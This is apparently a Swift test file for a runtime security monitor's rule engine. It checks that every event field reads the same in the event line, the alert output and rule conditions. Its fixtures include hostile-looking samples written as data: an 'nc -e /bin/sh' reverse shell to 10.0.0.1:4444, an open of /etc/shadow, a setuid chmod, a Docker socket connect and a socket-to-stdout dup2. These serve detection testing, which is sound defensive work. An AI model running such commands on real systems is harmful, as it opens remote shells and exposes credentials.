import CBPF
import Foundation
import Testing
import WitnessCore
import WitnessTestSupport

@testable import WitnessRules

/// A field has one value, whoever asks: the event line, the alert output and the
/// rule condition spell it alike — for every field of every kind of event.
struct FieldAgreementTests {
    /// The event line's output_fields for `fixture`, resolved against the harness's processes.
    func eventLine(_ fixture: RecordFixture, _ harness: RuleHarness) throws -> [String: Any] {
        var writer = JSONWriter()
        let encoder = EventJSONEncoder(hostname: Array("node".utf8), clock: WallClock(offset: 0))
        let resolved = ResolvedEvent(processes: harness.processes, clock: WallClock(offset: 0))
        try fixture.withEvent { event in
            resolved.begin(event, number: 1)
            defer { resolved.end() }
            encoder.encode(resolved, labels: SubjectLabels(), into: &writer)
        }
        let line = try #require(try JSONSerialization.jsonObject(with: Data(writer.bytes)) as? [String: Any])
        return try #require(line["output_fields"] as? [String: Any])
    }

    /// One record of every kind the kernel writes.
    static let fixtures: [(String, RecordFixture)] = [
        ("exec", .exec(filename: "/usr/bin/nc", argv: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])),
        ("failed exec", .exec(filename: "/tmp/x", argv: ["x", "a b "], result: -13)),
        ("open", .open(path: Array("/etc/shadow".utf8), flags: 0o2000000, result: 3)),
        (
            "relative open",
            .open(
                path: Array("../etc/./passwd".utf8), directory: Array("/tmp".utf8), dirfd: 5, flags: 0o1101, result: -2)
        ),
        (
            "ipv4 connect",
            .connect(
                sockaddr: RecordFixture.sockaddrIPv4(10, 0, 0, 1, port: 443), local: [10, 0, 0, 2], localPort: 40000)
        ),
        (
            "ipv6 connect",
            .connect(
                sockaddr: RecordFixture.sockaddrIPv6([0xfd] + Array(repeating: 0, count: 14) + [1], port: 53),
                result: -111)
        ),
        ("unix connect", .connect(sockaddr: [1, 0] + Array("/run/docker.sock".utf8))),
        ("abstract connect", .connect(sockaddr: [1, 0, 0] + Array("hidden-door".utf8))),
        ("syscall", .syscall(.fchmodat, args: [-100, 0, 0o4755], path: Array("/tmp/suid".utf8))),
        ("socket syscall", .syscall(.dup2, args: [5, 1], socketFamily: 2)),
        ("fork", fork(child: 4343, flags: 0x1200011)),
        ("exit", exit(status: 0x0109)),
    ]

    static func fork(child: UInt32, flags: UInt64) -> RecordFixture {
        var event = witness_fork_event()
        event.header = RecordFixture.header(
            kind: WITNESS_EVENT_FORK, syscall: WITNESS_SYS_CLONE, size: MemoryLayout<witness_fork_event>.size,
            result: Int64(child))
        event.child_pid = child
        event.child_tid = child
        event.clone_flags = flags
        return RecordFixture(bytes: withUnsafeBytes(of: event) { Array($0) })
    }

    static func exit(status: Int64) -> RecordFixture {
        let header = RecordFixture.header(
            kind: WITNESS_EVENT_EXIT, syscall: WITNESS_SYS_EXIT, size: MemoryLayout<witness_event_header>.size,
            result: status)
        return RecordFixture(bytes: withUnsafeBytes(of: header) { Array($0) })
    }

    /// Every field the catalogue knows that takes no argument, and the arguments the
    /// fixtures' events have.
    static var everyField: [String] {
        let plain = FieldID.allCases.filter {
            ![.evtArg, .evtRawarg, .k8sPodLabel, .procEnvVariable, .unavailable].contains($0)
        }
        return plain.map(\.rawValue) + [
            "evt.arg.status", "evt.arg.signal", "evt.arg.child_pid", "evt.arg.dirfd",
            "evt.arg.filename", "evt.arg.mode", "evt.arg.oldfd", "evt.arg.newfd",
        ]
    }

    @Test(arguments: fixtures.map(\.0))
    func everyFieldOfTheEventLineIsTheAlertsAndTheConditions(kind: String) throws {
        let fixture = try #require(Self.fixtures.first { $0.0 == kind }?.1)
        let output = Self.everyField.map { "%\($0)" }.joined(separator: " ")
        let harness = RuleHarness(
            """
            - rule: every field
              desc: test
              condition: evt.num >= 0
              output: "\(output)"
              priority: WARNING
            """)
        let line = try eventLine(fixture, harness)
        let alert = try #require(try harness.alerts(fixture).first, "the rule fires on \(kind)")
        let alertFields = try #require(alert["output_fields"] as? [String: Any])
        #expect(line.count > 8)
        var conditions = 0
        for (name, value) in line where name != "evt.time" {
            // Every field of the line is in the alert (evt.time: the alert's clock is its own fixture's).
            let other = alertFields[name]
            #expect(other != nil, "\(kind): \(name) is in the event line, not in the alert")
            #expect(String(describing: value) == String(describing: other ?? "missing"), "\(kind): \(name) differs")
            // And a condition on the value holds.
            guard case .success(let field) = FieldRef.resolve(name: name, argument: nil) else { continue }
            let condition: String
            switch (field.id.kind, value) {
            case (.string, let text as String):
                guard !text.contains("\""), !text.contains("'") else { continue }
                condition = "\(name) = \"\(text)\""
            case (.boolean, let number as NSNumber):
                condition = "\(name) = \(number.boolValue)"
            case (.number, let number as NSNumber):
                condition = "\(name) = \(number.int64Value)"
            default:
                continue  // null, or an argument a line writes as a number: nothing to compare
            }
            #expect(try RuleHarness(condition: condition).fires(fixture), "\(kind): \(condition) does not hold")
            conditions += 1
        }
        #expect(conditions >= 8, "\(kind): the line's values were tested as conditions")
    }

    @Test func anAbstractUnixSocketIsTheSameNameInLinesAndRules() throws {
        let sockaddr: [UInt8] = [1, 0, 0] + Array("hidden-door".utf8)
        let fixture = RecordFixture.connect(sockaddr: sockaddr)
        #expect(try eventLine(fixture, RuleHarness(condition: "evt.num >= 0"))["fd.name"] as? String == "@hidden-door")
        #expect(try RuleHarness(condition: "fd.name = @hidden-door").fires(fixture))
    }

    @Test func anErrnoWithoutANameIsTheSameResultInLinesAndRules() throws {
        let fixture = RecordFixture.open(path: Array("/etc/shadow".utf8), flags: 0, result: -523)
        #expect(try eventLine(fixture, RuleHarness(condition: "evt.num >= 0"))["evt.res"] as? String == "-523")
        #expect(try RuleHarness(condition: "evt.res = -523").fires(fixture))
        #expect(try !RuleHarness(condition: "evt.res = SUCCESS").fires(fixture))
    }
}
